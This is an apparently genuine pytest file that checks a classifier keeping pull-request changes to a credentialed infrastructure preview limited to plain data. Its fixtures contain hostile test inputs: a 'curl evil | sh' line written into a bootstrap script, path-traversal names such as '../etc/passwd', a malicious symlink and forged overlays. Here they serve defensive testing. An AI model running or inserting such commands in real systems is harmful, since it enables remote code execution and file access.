"""`pr-data`: what of a pull request main's code lets into the credentialed preview, read from git.

Each test builds a small repository (main, then a branch), runs the classifier over the two commits as
the workflow does, and checks the verdict, the overlay it wrote and the data laid over main's tree."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from webex_cloud.commands import pr_data as command
from webex_cloud.exit_codes import ExitCode
from webex_cloud.paths import plain_relative
from webex_cloud.preview.pr_data import PrDataError, classify, lay_over, load_verdict, sha256

STACK = {
    "encryptionsalt": "v1:main-salt",
    "config": {
        "openstack:cloud": "webex-dc1",
        "webex-cloud:datacenter": {
            "name": "dc1",
            "cidr_pool": "10.10.0.0/16",
            "flavors": {"m1.small": {"vcpus": 2}},
            "controllers": {
                "vip": "10.250.1.10",
                "deploy": {"python": "/usr/bin/python3", "nova": {"unit": "nova-scheduler"}},
            },
        },
    },
}
SERVICE = "name: messaging\ndatacenters: [dc1]\npods: 2\n"


def _git(repo: Path, *args: str) -> str:
    done = subprocess.run(["git", "-C", str(repo), *args], capture_output=True, text=True, check=True)
    return done.stdout.strip()


def _write(repo: Path, relative: str, content: str | dict[str, Any]) -> None:
    path = repo / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content if isinstance(content, str) else yaml.safe_dump(content, sort_keys=False))


def _commit(repo: Path, message: str) -> str:
    _git(repo, "add", "-A")
    _git(repo, "-c", "user.name=t", "-c", "user.email=t@example.invalid", "commit", "-q", "-m", message)
    return _git(repo, "rev-parse", "HEAD")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """main: two stacks, a service of dc1, the image catalog, some code; a branch `pr` at main."""
    root = tmp_path / "repo"
    root.mkdir()
    _git(root, "init", "-q", "-b", "main")
    _write(root, "stacks/Pulumi.dc1.yaml", STACK)
    dc2 = json.loads(json.dumps(STACK).replace("dc1", "dc2").replace("10.10.", "10.20."))
    _write(root, "stacks/Pulumi.dc2.yaml", dc2)
    _write(root, "catalog/messaging.yaml", SERVICE)
    _write(root, "catalog/images/images.yaml", "images: []\n")
    _write(root, "scripts/bootstrap.sh", "#!/bin/sh\necho install\n")
    _write(root, "policies/pack.py", "RULES = []\n")
    _commit(root, "main")
    _git(root, "branch", "pr")
    return root


def _branch(repo: Path, change: Any) -> tuple[str, str]:
    """Commit ``change(repo)`` on the branch `pr`; back on main. Returns (main's sha, the head's)."""
    base = _git(repo, "rev-parse", "main")
    _git(repo, "checkout", "-q", "pr")
    change(repo)
    head = _commit(repo, "the pull request")
    _git(repo, "checkout", "-q", "main")
    return base, head


def _stack(repo: Path, mutate: Any, stack: str = "dc1") -> None:
    path = repo / f"stacks/Pulumi.{stack}.yaml"
    document = yaml.safe_load(path.read_text())
    mutate(document)
    path.write_text(yaml.safe_dump(document, sort_keys=False))


def _dc(document: dict[str, Any]) -> dict[str, Any]:
    datacenter: dict[str, Any] = document["config"]["webex-cloud:datacenter"]
    return datacenter


def test_a_catalog_change_is_data_and_previews_the_stacks_its_service_runs_in(
    repo: Path, tmp_path: Path
) -> None:
    base, head = _branch(repo, lambda r: _write(r, "catalog/messaging.yaml", SERVICE.replace("2", "3")))
    verdict = classify(repo, base, head, tmp_path / "out")
    assert verdict.kind == "data" and verdict.stacks == ["dc1"]
    assert verdict.paths["catalog/messaging.yaml"].kind == "data"
    overlaid = (tmp_path / "out/overlay/catalog/messaging.yaml").read_bytes()
    assert overlaid == SERVICE.replace("2", "3").encode()
    assert verdict.files == {"catalog/messaging.yaml": sha256(overlaid)}
    written = json.loads((tmp_path / "out/verdict.json").read_text())
    assert written["head_sha"] == head and written["base_sha"] == base and written["kind"] == "data"


def test_a_stack_file_edit_is_data_and_keeps_mains_provider_and_controller_fields(
    repo: Path, tmp_path: Path
) -> None:
    base, head = _branch(
        repo, lambda r: _stack(r, lambda d: _dc(d)["flavors"].update({"m1.big": {"vcpus": 8}}))
    )
    verdict = classify(repo, base, head, tmp_path / "out")
    assert verdict.kind == "data" and verdict.stacks == ["dc1"]
    overlaid = yaml.safe_load((tmp_path / "out/overlay/stacks/Pulumi.dc1.yaml").read_text())
    assert _dc(overlaid)["flavors"]["m1.big"] == {"vcpus": 8}
    assert overlaid["config"]["openstack:cloud"] == "webex-dc1"
    assert overlaid["encryptionsalt"] == "v1:main-salt"


@pytest.mark.parametrize(
    ("mutate", "named"),
    [
        (lambda d: d["config"].update({"openstack:authUrl": "https://203.0.113.9/v3"}), "openstack:authUrl"),
        (lambda d: d["config"].update({"openstack:cloud": "elsewhere"}), "openstack:cloud"),
        (lambda d: d["config"].update({"openstack:cacertFile": "/tmp/ca.pem"}), "openstack:cacertFile"),
        (lambda d: _dc(d)["controllers"]["deploy"].update({"python": "/tmp/python3"}), "controllers.deploy"),
        (lambda d: _dc(d)["controllers"]["deploy"].update({"nova": {"unit": "x"}}), "controllers.deploy"),
        (lambda d: _dc(d).update({"region": "RegionTwo"}), "datacenter.region"),
        (lambda d: _dc(d).update({"identities": {"reader": "admin"}}), "datacenter.identities"),
        (lambda d: _dc(d)["controllers"].pop("deploy"), "controllers.deploy"),
        (lambda d: d.update({"secretsprovider": "awskms://203.0.113.9/key"}), "secretsprovider"),
        (lambda d: d.update({"encryptionsalt": "v1:other"}), "encryptionsalt"),
    ],
)
def test_a_change_to_a_field_main_owns_is_code_and_the_overlay_keeps_mains(
    repo: Path, tmp_path: Path, mutate: Any, named: str
) -> None:
    base, head = _branch(repo, lambda r: _stack(r, mutate))
    verdict = classify(repo, base, head, tmp_path / "out")
    assert verdict.kind == "code"
    assert named in verdict.paths["stacks/Pulumi.dc1.yaml"].reason
    overlaid = yaml.safe_load((tmp_path / "out/overlay/stacks/Pulumi.dc1.yaml").read_text())
    assert {k: v for k, v in overlaid["config"].items() if k.startswith("openstack:")} == {
        "openstack:cloud": "webex-dc1"
    }
    assert _dc(overlaid)["controllers"]["deploy"] == _dc(STACK)["controllers"]["deploy"]
    assert "region" not in _dc(overlaid) and "identities" not in _dc(overlaid)  # main has neither
    assert {k: v for k, v in overlaid.items() if k != "config"} == {"encryptionsalt": "v1:main-salt"}


PASSWORD = {"secure": "v1:cGFzc3dvcmQtY2lwaGVydGV4dA=="}
ROUTING_KEY = {"secure": "v1:cm91dGluZy1rZXktY2lwaGVydGV4dA=="}


def _with_secrets(document: dict[str, Any]) -> None:
    document["config"]["openstack:password"] = PASSWORD
    _dc(document)["alerting"] = {"routing_key": ROUTING_KEY, "receivers": [ROUTING_KEY]}


@pytest.mark.parametrize(
    ("mutate", "where"),
    [
        (lambda d: _dc(d)["flavors"].update({"m1.big": {"name": PASSWORD}}), "flavors.m1.big.name"),
        (lambda d: _dc(d).update({"name": ROUTING_KEY}), "datacenter.name"),
        (lambda d: d["config"].update({"webex-cloud:note": PASSWORD}), "config.webex-cloud:note"),
        (lambda d: _dc(d)["alerting"].update({"routing_key": PASSWORD}), "alerting.routing_key"),
        (lambda d: _dc(d)["alerting"]["receivers"].insert(0, PASSWORD), "alerting.receivers[0]"),
    ],
)
def test_ciphertext_moved_to_another_field_is_code_and_never_reaches_the_preview(
    repo: Path, tmp_path: Path, mutate: Any, where: str
) -> None:
    """The branch has no passphrase, but it can copy main's ciphertext into a plain field that the
    credentialed preview would decrypt and print; only ciphertext main holds at that path passes."""
    _stack(repo, _with_secrets)
    _commit(repo, "main keeps two secrets")
    _git(repo, "branch", "-f", "pr", "main")
    base, head = _branch(repo, lambda r: _stack(r, mutate))
    verdict = classify(repo, base, head, tmp_path / "out")
    assert verdict.kind == "code"
    reason = verdict.paths["stacks/Pulumi.dc1.yaml"].reason
    assert "encrypted values main does not hold" in reason and where in reason
    text = (tmp_path / "out/overlay/stacks/Pulumi.dc1.yaml").read_text()
    overlaid = yaml.safe_load(text)
    assert text.count("cGFzc3dvcmQtY2lwaGVydGV4dA") == 1  # main's own, at openstack:password only
    assert overlaid["config"]["openstack:password"] == PASSWORD
    assert text.count("cm91dGluZy1rZXktY2lwaGVydGV4dA") <= 2  # main's two places at most


def test_ciphertext_main_holds_at_the_same_place_stays_data(repo: Path, tmp_path: Path) -> None:
    _stack(repo, _with_secrets)
    _commit(repo, "main keeps two secrets")
    _git(repo, "branch", "-f", "pr", "main")
    base, head = _branch(
        repo, lambda r: _stack(r, lambda d: _dc(d)["flavors"].update({"m1.big": {"vcpus": 8}}))
    )
    verdict = classify(repo, base, head, tmp_path / "out")
    assert verdict.kind == "data"
    overlaid = yaml.safe_load((tmp_path / "out/overlay/stacks/Pulumi.dc1.yaml").read_text())
    assert _dc(overlaid)["alerting"] == {"routing_key": ROUTING_KEY, "receivers": [ROUTING_KEY]}


def test_laying_over_drops_ciphertext_a_forged_overlay_moved(repo: Path, tmp_path: Path) -> None:
    _stack(repo, _with_secrets)
    _commit(repo, "main keeps two secrets")
    _git(repo, "branch", "-f", "pr", "main")
    out, digest = _data_pr(repo, tmp_path)
    verdict = load_verdict(out / "verdict.json", digest)
    forged = out / "overlay/stacks/Pulumi.dc1.yaml"
    document = yaml.safe_load(forged.read_text())
    _dc(document)["flavors"]["m1.big"]["name"] = PASSWORD
    forged.write_text(yaml.safe_dump(document))
    verdict = verdict.model_copy(
        update={"files": {**verdict.files, "stacks/Pulumi.dc1.yaml": sha256(forged.read_bytes())}}
    )
    lay_over(repo, out / "overlay", verdict)
    laid = yaml.safe_load((repo / "stacks/Pulumi.dc1.yaml").read_text())
    assert _dc(laid)["flavors"]["m1.big"] == {"vcpus": 8}
    assert laid["config"]["openstack:password"] == PASSWORD


def test_the_overlay_takes_mains_provider_settings_as_they_are_now(repo: Path, tmp_path: Path) -> None:
    """main moved its endpoint after the branch started: the preview uses main's new one, not the
    branch's old copy, and the branch (which did not touch it) is still data."""
    base, head = _branch(repo, lambda r: _stack(r, lambda d: _dc(d)["flavors"].clear()))
    _stack(repo, lambda d: d["config"].update({"openstack:cloud": "webex-dc1-new"}))
    _commit(repo, "main moves dc1's cloud entry")
    verdict = classify(repo, _git(repo, "rev-parse", "main"), head, tmp_path / "out")
    assert verdict.kind == "data", verdict.paths
    overlaid = yaml.safe_load((tmp_path / "out/overlay/stacks/Pulumi.dc1.yaml").read_text())
    assert overlaid["config"]["openstack:cloud"] == "webex-dc1-new"
    assert base != verdict.base_sha and verdict.merge_base == base


def _symlink(repo: Path) -> None:
    (repo / "catalog/evil.yaml").symlink_to("../scripts/bootstrap.sh")


def _executable(repo: Path) -> None:
    (repo / "catalog/messaging.yaml").chmod(0o755)


def _rename_stack(repo: Path) -> None:
    (repo / "stacks/Pulumi.dc2.yaml").rename(repo / "stacks/Pulumi.dc3.yaml")


@pytest.mark.parametrize(
    ("change", "path", "reason"),
    [
        (lambda r: _write(r, "scripts/bootstrap.sh", "curl evil | sh\n"), "scripts/bootstrap.sh", "not data"),
        (lambda r: _write(r, "policies/pack.py", "RULES = None\n"), "policies/pack.py", "not data"),
        (lambda r: _write(r, "__main__.py", "import os\n"), "__main__.py", "not data"),
        (
            lambda r: _write(r, ".github/workflows/x.yml", "on: push\n"),
            ".github/workflows/x.yml",
            "not a plain",
        ),
        (lambda r: _write(r, "stacks/Pulumi.dc9.yaml", STACK), "stacks/Pulumi.dc9.yaml", "a new stack file"),
        (lambda r: (r / "stacks/Pulumi.dc2.yaml").unlink(), "stacks/Pulumi.dc2.yaml", "a deleted stack file"),
        (_rename_stack, "stacks/Pulumi.dc3.yaml", "a new stack file"),
        (_symlink, "catalog/evil.yaml", "a symlink"),
        (_executable, "catalog/messaging.yaml", "an executable"),
        (lambda r: _write(r, "catalog/.hidden.yaml", SERVICE), "catalog/.hidden.yaml", "not a plain"),
        (lambda r: _write(r, "catalog/a b.yaml", SERVICE), "catalog/a b.yaml", "not a plain"),
        (lambda r: _write(r, "catalog/a\nb.yaml", SERVICE), "catalog/a\nb.yaml", "not a plain"),
        (lambda r: _write(r, "catalog/a\\..\\b.yaml", SERVICE), "catalog/a\\..\\b.yaml", "not a plain"),
        (
            lambda r: _write(r, "stacks/Pulumi.dc1.yaml", "config: [1]\n"),
            "stacks/Pulumi.dc1.yaml",
            "not readable",
        ),
        (lambda r: _write(r, "stacks/notes.txt", "x\n"), "stacks/notes.txt", "not data"),
    ],
)
def test_everything_but_data_is_code(repo: Path, tmp_path: Path, change: Any, path: str, reason: str) -> None:
    base, head = _branch(repo, change)
    verdict = classify(repo, base, head, tmp_path / "out")
    assert verdict.kind == "code"
    assert verdict.paths[path].kind == "code" and reason in verdict.paths[path].reason
    overlay = tmp_path / "out" / "overlay"
    assert not (overlay / path).exists() or path.startswith("stacks/Pulumi.dc1")


def test_a_renamed_catalog_file_and_a_deleted_one_are_data(repo: Path, tmp_path: Path) -> None:
    def change(r: Path) -> None:
        (r / "catalog/messaging.yaml").rename(r / "catalog/messaging-v2.yaml")

    base, head = _branch(repo, change)
    verdict = classify(repo, base, head, tmp_path / "out")
    assert verdict.kind == "data" and verdict.deleted == ["catalog/messaging.yaml"]
    assert list(verdict.files) == ["catalog/messaging-v2.yaml"]
    laid = lay_over(repo, tmp_path / "out/overlay", verdict)
    assert laid == ["catalog/messaging-v2.yaml", "catalog/messaging.yaml"]
    assert not (repo / "catalog/messaging.yaml").exists() and (repo / "catalog/messaging-v2.yaml").is_file()


@pytest.mark.parametrize(
    "path",
    [
        "../etc/passwd",
        "/etc/passwd",
        "catalog/../x",
        "catalog//x",
        "catalog/./x",
        "catalog/.git/hooks/x",
        "catalog/x\\y",
        "catalog/é",
        "",
    ],
)
def test_only_plain_names_are_plain(path: str) -> None:
    assert not plain_relative(path)


def test_plain_names_are(repo: Path) -> None:
    assert plain_relative("catalog/images/images.yaml") and plain_relative("stacks/Pulumi.dc-1.yaml")


def _data_pr(repo: Path, tmp_path: Path) -> tuple[Path, str]:
    def change(r: Path) -> None:
        _write(r, "catalog/messaging.yaml", SERVICE.replace("2", "3"))
        _stack(r, lambda d: _dc(d)["flavors"].update({"m1.big": {"vcpus": 8}}))

    base, head = _branch(repo, change)
    out = tmp_path / "out"
    classify(repo, base, head, out)
    return out, sha256((out / "verdict.json").read_bytes())


def test_laying_the_data_over_main_reimposes_mains_fields_whatever_the_overlay_says(
    repo: Path, tmp_path: Path
) -> None:
    out, digest = _data_pr(repo, tmp_path)
    verdict = load_verdict(out / "verdict.json", digest)
    forged = out / "overlay/stacks/Pulumi.dc1.yaml"
    document = yaml.safe_load(forged.read_text())
    document["config"]["openstack:authUrl"] = "https://203.0.113.9/v3"
    forged.write_text(yaml.safe_dump(document))
    verdict = verdict.model_copy(
        update={"files": {**verdict.files, "stacks/Pulumi.dc1.yaml": sha256(forged.read_bytes())}}
    )
    lay_over(repo, out / "overlay", verdict)
    laid = yaml.safe_load((repo / "stacks/Pulumi.dc1.yaml").read_text())
    assert "openstack:authUrl" not in laid["config"] and _dc(laid)["flavors"]["m1.big"] == {"vcpus": 8}
    assert (repo / "catalog/messaging.yaml").read_text() == SERVICE.replace("2", "3")


@pytest.mark.parametrize(
    ("tamper", "message"),
    [
        (
            lambda out: (out / "overlay/catalog/messaging.yaml").write_text("x: 1\n"),
            "does not have the SHA-256",
        ),
        (
            lambda out: (out / "overlay/catalog/extra.yaml").write_text("x: 1\n"),
            "which the verdict does not name",
        ),
        (lambda out: (out / "overlay/catalog/messaging.yaml").unlink(), "missing or not a regular file"),
    ],
)
def test_a_tampered_overlay_is_refused_and_nothing_is_laid(
    repo: Path, tmp_path: Path, tamper: Any, message: str
) -> None:
    out, digest = _data_pr(repo, tmp_path)
    tamper(out)
    before = (repo / "catalog/messaging.yaml").read_text()
    with pytest.raises(PrDataError, match=message):
        lay_over(repo, out / "overlay", load_verdict(out / "verdict.json", digest))
    assert (repo / "catalog/messaging.yaml").read_text() == before


def test_a_verdict_naming_code_or_another_digest_is_refused(repo: Path, tmp_path: Path) -> None:
    out, digest = _data_pr(repo, tmp_path)
    with pytest.raises(PrDataError, match="SHA-256 is not the one the classify job reported"):
        load_verdict(out / "verdict.json", "0" * 64)
    verdict = load_verdict(out / "verdict.json", digest)
    (out / "overlay/scripts").mkdir()
    (out / "overlay/scripts/bootstrap.sh").write_text("evil\n")
    evil = verdict.model_copy(update={"files": {**verdict.files, "scripts/bootstrap.sh": sha256(b"evil\n")}})
    with pytest.raises(PrDataError, match=r"'scripts/bootstrap\.sh', which is not data"):
        lay_over(repo, out / "overlay", evil)
    assert (repo / "scripts/bootstrap.sh").read_text() == "#!/bin/sh\necho install\n"


def test_the_command_classifies_and_applies_and_refuses_bad_input(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    base, head = _branch(repo, lambda r: _write(r, "catalog/messaging.yaml", SERVICE.replace("2", "3")))
    out = tmp_path / "out"
    argv = ["classify", "--repo", str(repo), "--base", base, "--head", head, "--out", str(out)]
    assert command.main([*argv, "--github-output"]) == ExitCode.OK
    printed = capsys.readouterr()
    outputs = dict(line.split("=", 1) for line in printed.out.splitlines())
    assert outputs["kind"] == "data" and json.loads(outputs["stacks"]) == [{"stack": "dc1"}]
    assert outputs["verdict_sha256"] == sha256((out / "verdict.json").read_bytes())
    assert "data  catalog/messaging.yaml: catalog file" in printed.err
    assert command.main([*argv]) == ExitCode.INPUT  # --out not empty
    assert "exists and is not an empty folder" in capsys.readouterr().err
    apply = [
        "apply",
        "--overlay",
        str(out / "overlay"),
        "--verdict",
        str(out / "verdict.json"),
        "--verdict-sha256",
        outputs["verdict_sha256"],
        "--project",
        str(repo),
    ]
    assert command.main([*apply, "--head", base]) == ExitCode.INPUT
    assert f"the verdict is of {head}, not of {base}" in capsys.readouterr().err
    assert command.main([*apply, "--head", head]) == ExitCode.OK
    assert (repo / "catalog/messaging.yaml").read_text() == SERVICE.replace("2", "3")
    for bad, said in (
        (["--base", "main"], "give the full commit SHA"),
        (["--base", "f" * 40], "no such commit"),
    ):
        code = command.main(
            ["classify", "--repo", str(repo), *bad, "--head", head, "--out", str(tmp_path / "o2")]
        )
        assert code == ExitCode.INPUT and said in capsys.readouterr().err
    assert (
        command.main(
            [
                "classify",
                "--repo",
                str(tmp_path / "nowhere"),
                "--base",
                base,
                "--head",
                head,
                "--out",
                str(tmp_path / "o3"),
            ]
        )
        == ExitCode.INPUT
    )
    assert "nowhere: not a git checkout" in capsys.readouterr().err
